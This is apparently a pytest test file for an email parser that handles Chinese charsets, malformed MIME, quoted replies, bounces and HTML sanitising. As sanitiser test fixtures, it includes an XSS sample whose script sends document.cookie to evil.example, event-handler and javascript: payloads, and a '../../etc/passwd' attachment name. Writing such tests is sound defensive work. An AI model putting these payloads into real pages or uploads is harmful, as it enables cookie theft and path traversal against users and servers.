"""The charset corpus and the odd MIME Chinese mail clients send, built here with the email package; HTML
sanitising; replies without their quoted history; auto-replies and bounces recognised."""

import base64
import email.policy
from email import encoders
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.nonmultipart import MIMENonMultipart

import pytest

from aftersales.inbox.mime import decode_header_value, html_to_text, parse_message, sanitise_html, strip_quoted
from aftersales.inbox.tests.mails import build, raw

GBK_ONLY = "王镕反馈：喆、堃两台服务器啰嗦报警"  # 镕 喆 堃 啰 are in GBK, not in GB2312
GB18030_ONLY = "𠮷野家门店的收银机𫖯无法开机"  # four-byte GB18030 (outside GBK)
BIG5_TEXT = "伺服器無法開機，請派工程師到場"
HKSCS_TEXT = "部機壞咗㗎，唔該快啲嚟"  # 咗 㗎 are HKSCS additions to Big5


def text_message(body: bytes, *, label: str | None, subject: str = "test", transfer="base64") -> bytes:
    """A single-part text/plain message whose bytes and declared charset are given separately."""
    part = MIMENonMultipart("text", "plain")
    if label:
        part.set_param("charset", label)
    part.set_payload(body)
    if transfer == "base64":
        encoders.encode_base64(part)
    else:
        part["Content-Transfer-Encoding"] = "8bit"
    part["From"] = "张伟 <zhang.wei@customer.example.cn>"
    part["Subject"] = subject
    part["Message-ID"] = "<corpus@customer.example.cn>"
    return part.as_bytes(policy=email.policy.compat32)


# The charset corpus -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "encoding", "label"),
    [
        ("服务器无法开机，请尽快派人", "gb2312", "gb2312"),
        (GBK_ONLY, "gbk", "gb2312"),  # mislabelled: really GBK
        (GBK_ONLY, "gbk", "GBK"),
        (GB18030_ONLY, "gb18030", "gb2312"),  # mislabelled: really GB18030
        (GB18030_ONLY, "gb18030", "gbk"),
        (GB18030_ONLY, "gb18030", "GB18030"),
        (BIG5_TEXT, "big5", "big5"),
        (HKSCS_TEXT, "big5hkscs", "big5"),  # Hong Kong characters labelled plain Big5
        (BIG5_TEXT, "cp950", "x-big5"),
        ("服务器无法开机", "utf-8", "us-ascii"),  # UTF-8 that says it is ASCII
        ("服务器无法开机", "utf-8", None),
        (GBK_ONLY, "gbk", None),  # no label at all
        (GBK_ONLY, "gbk", "iso-8859-1"),  # mislabelled as Latin-1
        ("服务器无法开机", "utf-8", "x-unknown-charset"),
        ("Grüße aus München", "iso-8859-1", "iso-8859-1"),  # genuine Latin-1 is not turned into Chinese
    ],
)
@pytest.mark.parametrize("transfer", ["base64", "8bit"])
def test_body_charsets_are_decoded_without_loss(text, encoding, label, transfer):
    mail = parse_message(text_message(text.encode(encoding), label=label, transfer=transfer))

    assert mail.text == text
    assert not [note for note in mail.notes if note["code"] == "undecodable_text"]


def test_bytes_no_charset_fits_are_replaced_and_noted_never_dropped():
    body = "正常文字".encode() + b"\xff\xfe\xfa" + "后面的文字".encode()

    mail = parse_message(text_message(body, label="utf-8"))

    assert mail.text.startswith("正常文字") and mail.text.endswith("后面的文字")
    assert {"code": "undecodable_text", "charset": "utf-8"} in mail.notes


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (Header("关于服务器宕机的问题", "gb2312").encode(), "关于服务器宕机的问题"),
        (Header(BIG5_TEXT, "big5").encode(), BIG5_TEXT),
        (Header("服务器宕机 SR202611220001", "utf-8").encode(), "服务器宕机 SR202611220001"),
        ("=?utf-8?Q?=E6=9C=8D=E5=8A=A1=E5=99=A8_=E5=AE=95=E6=9C=BA?=", "服务器 宕机"),
        ("=?GB2312?B?" + base64.b64encode(GBK_ONLY.encode("gbk")).decode() + "?=", GBK_ONLY),
        (
            "Re: =?gbk?B?" + base64.b64encode("故障".encode("gbk")).decode() + "?= [SR202611220001]",
            "Re: 故障 [SR202611220001]",
        ),
        # Encoded-words glued together (no space), as several Chinese webmails write them
        ("=?utf-8?B?5pyN5Yqh?==?utf-8?B?5Zmo?=", "服务器"),
    ],
)
def test_encoded_words_in_headers(header, expected):
    assert decode_header_value(header) == expected


def test_a_character_split_between_two_encoded_words_survives():
    data = GBK_ONLY.encode("gbk")
    first, second = base64.b64encode(data[:7]).decode(), base64.b64encode(data[7:]).decode()  # 7 splits 镕 in two

    assert decode_header_value(f"=?gb2312?B?{first}?=\r\n =?gb2312?B?{second}?=") == GBK_ONLY


@pytest.mark.parametrize("encoding", ["utf-8", "gbk"])
def test_raw_8bit_headers_are_decoded(encoding):
    message = b"From: " + "张伟".encode(encoding) + b" <zhang.wei@customer.example.cn>\r\nSubject: "
    message += "打印机卡纸".encode(encoding) + b"\r\nMessage-ID: <x@y>\r\n\r\nbody\r\n"

    mail = parse_message(message)

    assert (mail.sender_name, mail.sender_address, mail.subject) == (
        "张伟",
        "zhang.wei@customer.example.cn",
        "打印机卡纸",
    )


def test_attachment_names_in_encoded_words_and_rfc_2231():
    message = MIMEMultipart()
    message["From"] = "zhang.wei@customer.example.cn"
    message["Subject"] = "附件"
    message.attach(MIMENonMultipart("text", "plain", charset="utf-8"))
    message.get_payload()[0].set_payload(base64.b64encode("见附件".encode()).decode())
    message.get_payload()[0]["Content-Transfer-Encoding"] = "base64"
    outlook = MIMEApplication(b"%PDF-1.4", "pdf")
    outlook.add_header(
        "Content-Disposition", "attachment", filename=Header("故障报告.pdf", "gb2312").encode()
    )  # non-standard, but what Outlook and Foxmail send
    standard = MIMEApplication(b"PK\x03\x04", "zip")
    standard.add_header("Content-Disposition", "attachment", filename=("utf-8", "", "日志 2026.zip"))
    big5 = MIMEApplication(b"%PDF-1.4", "pdf")
    big5.add_header("Content-Disposition", "attachment", filename=("big5", "zh-tw", "報告.pdf"))
    for part in (outlook, standard, big5):
        message.attach(part)

    mail = parse_message(message.as_bytes())

    assert mail.text == "见附件"
    assert [part.name for part in mail.parts] == ["故障报告.pdf", "日志 2026.zip", "報告.pdf"]


def test_folders_in_an_attachment_name_are_removed():
    mail = parse_message(build(attachments=[("../../etc/passwd.pdf", "application/pdf", b"%PDF")]))

    assert mail.parts[0].name == "_.._etc_passwd.pdf"


# Malformed MIME ---------------------------------------------------------------------------------


def test_a_multipart_without_its_closing_boundary_keeps_its_text():
    message = raw(
        "From: zhang.wei@customer.example.cn\nSubject: broken\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="XYZ"\n',
        b"--XYZ\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + "截断的邮件".encode() + b"\r\n",
    )

    mail = parse_message(message)

    assert mail.text == "截断的邮件"
    assert "mime_defects" in {note["code"] for note in mail.notes}


def test_a_multipart_without_a_boundary_is_read_as_text():
    message = raw(
        "From: zhang.wei@customer.example.cn\nSubject: no boundary\nContent-Type: multipart/mixed\n",
        "内容还在".encode(),
    )

    mail = parse_message(message)

    assert "内容还在" in mail.text


def test_broken_base64_keeps_what_can_be_read():
    good = base64.b64encode("机房空调故障".encode()).decode()
    message = raw(
        "From: zhang.wei@customer.example.cn\nSubject: b64\nContent-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: base64\n",
        (good + "!!!*").encode(),
    )

    assert parse_message(message).text.startswith("机房空调故障")


def test_a_message_that_is_not_mime_at_all():
    mail = parse_message(b"\x00\xff garbage without headers \xfe")

    assert mail.sender_address == "" and "garbage" in mail.text


def test_headers_without_brackets_and_very_long_references():
    references = " ".join(f"<ref{n}@mail.example>" for n in range(80))
    mail = parse_message(raw(f"Message-ID: plain-id@x\nIn-Reply-To: <a@b>\nReferences: {references}\n", b"x"))

    assert mail.message_id == "plain-id@x"
    assert mail.in_reply_to == ["a@b"]
    assert len(mail.references) == 50 and mail.references[-1] == "ref79@mail.example"


# HTML -------------------------------------------------------------------------------------------


ATTACK = (
    "<html><head><style>body{display:none}</style><title>t</title></head><body>"
    '<p onclick="steal()">请处理<script>document.location="http://evil.example/?c="+document.cookie</script></p>'
    '<img src="x" onerror="alert(1)"><img src="cid:logo@mail" alt="标志">'
    '<a href="javascript:alert(2)">点这里</a><a href="https://vendor.example/kb/1">知识库</a>'
    '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="p"></form>'
    '<svg onload="alert(3)"><circle/></svg></body></html>'
)


def test_html_is_sanitised_of_scripts_handlers_and_dangerous_links():
    clean = sanitise_html(ATTACK)

    for forbidden in ("<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "<form", "<style", "<svg"):
        assert forbidden not in clean
    assert "document.cookie" not in clean and "display:none" not in clean
    assert '<img src="cid:logo@mail" alt="标志">' in clean
    assert 'href="https://vendor.example/kb/1"' in clean and 'rel="noopener noreferrer nofollow"' in clean


def test_html_becomes_readable_text_without_script_content():
    mail = parse_message(build(text=None, html=ATTACK))

    assert mail.text == "请处理\n[标志]点这里知识库"
    assert "cookie" not in mail.text and "alert" not in mail.text


def test_html_lists_tables_and_breaks_become_lines():
    text = html_to_text(
        "<div>型号：<br>R740</div><ul><li>电源</li><li>风扇</li></ul><table><tr><td>A</td><td>B</td></tr></table>"
    )

    assert text == "型号：\nR740\n\n- 电源\n- 风扇\n\nA B"


# Replies ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "quoted",
    [
        '------------------ 原始邮件 ------------------\n发件人: "华东技术支持"<support@x>\n发送时间: 2026年11月22日\n已收到',
        "-----Original Message-----\nFrom: support@x\nSent: Monday\nreceived",
        "在 2026年11月22日 星期日 10:00，华东技术支持 <support@x> 写道：\n> 已收到",
        "On Sun, 22 Nov 2026 at 10:00, Support <support@x> wrote:\n> received",
        "发件人: 华东技术支持\n发送时间: 2026-11-22 10:00\n收件人: 张伟\n主题: 已收到",
        "> 已收到\n> 谢谢",
    ],
)
def test_a_reply_loses_the_history_it_quotes(quoted):
    assert strip_quoted(f"型号是 R740，序列号 CN123。\n\n{quoted}") == "型号是 R740，序列号 CN123。"


def test_a_from_line_in_the_text_itself_is_not_a_quote():
    text = "From: 机房A 到 机房B 的光纤断了\n请检查"

    assert strip_quoted(text) == text


def test_a_reply_that_is_only_a_quote_keeps_everything():
    assert strip_quoted("> 已收到") == "> 已收到"


# Auto-replies and bounces -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {"Auto-Submitted": "auto-replied"},
        {"Auto-Submitted": "auto-generated"},
        {"X-Autoreply": "yes"},
        {"X-Autorespond": "true"},
        {"Precedence": "bulk"},
        {"Precedence": "junk"},
        {"Precedence": "auto_reply"},
    ],
)
def test_auto_replies_are_recognised_by_their_headers(headers):
    mail = parse_message(build(headers=headers))

    assert mail.is_auto_reply and not mail.is_bounce


@pytest.mark.parametrize(
    "subject",
    [
        "自动回复: 服务器无法开机",
        "自動回覆：休假中",
        "Automatic reply: server down",
        "Out of Office: back Monday",
        "Auto Reply: 已收到",
        "[SR202611220001] 自动回复：我正在休假",
    ],
)
def test_auto_replies_are_recognised_by_their_subject(subject):
    assert parse_message(build(subject=subject)).is_auto_reply


def test_auto_submitted_no_is_a_person_writing():
    assert not parse_message(build(headers={"Auto-Submitted": "no"})).is_auto_reply


@pytest.mark.parametrize(
    ("sender", "headers"),
    [
        ("MAILER-DAEMON@mx.customer.example.cn", {}),
        ("postmaster@customer.example.cn", {}),
        ("zhang.wei@customer.example.cn", {"Return-Path": "<>"}),
    ],
)
def test_bounces_are_recognised(sender, headers):
    assert parse_message(build(sender=sender, headers=headers)).is_bounce


def test_a_delivery_status_report_is_a_bounce_and_its_technical_parts_are_not_attachments():
    report = raw(
        "From: Mail Delivery System <MAILER-DAEMON@mx.example>\nSubject: Undelivered Mail Returned to Sender\n"
        'MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary="B"\n',
        b"--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe mail could not be delivered.\r\n"
        b"--B\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\n"
        b"Final-Recipient: rfc822; gone@customer.example.cn\r\nAction: failed\r\n"
        b"--B\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <ours@service.example.com>\r\n"
        b"--B--\r\n",
    )

    mail = parse_message(report)

    assert mail.is_bounce and mail.text == "The mail could not be delivered."
    assert mail.parts == []


def test_reply_ids_a_sender_encoded_as_encoded_words_are_still_read():
    """Python's email (and some webmails) write a long In-Reply-To as an RFC 2047 word."""
    long_id = "SR202611300001.acknowledgement.0123456789abcdef@support.service.example.com"
    encoded = Header(f"<{long_id}>", "utf-8").encode()
    assert encoded.startswith("=?utf-8?")

    mail = parse_message(raw(f"From: a@b.example\nIn-Reply-To: {encoded}\nReferences: <x@y> {encoded}\n", b"x"))

    assert mail.in_reply_to == [long_id] and mail.references == ["x@y", long_id]
